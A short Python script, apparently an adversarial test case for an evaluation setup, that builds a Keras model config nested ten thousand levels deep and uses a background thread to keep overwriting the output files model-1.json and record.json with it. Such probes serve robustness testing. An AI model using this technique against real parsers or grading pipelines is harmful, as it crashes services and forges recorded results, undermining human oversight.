# tries: to have the judge and the host follow an architecture that is nested ten thousand times.
# gets nothing if: both refuse it in good order.
# %% weak
# %%
import os
import threading
import time

deep = '{"class_name": "Sequential", "module": "keras", "config": {"layers": [' * 10_000 + "]}}" * 10_000


def write():
    while True:
        for name in ("model-1.json", "record.json"):
            open("../out/.forged", "w").write(deep)
            os.replace("../out/.forged", f"../out/{name}")
        time.sleep(0.01)


threading.Thread(target=write, daemon=True).start()
time.sleep(0.5)
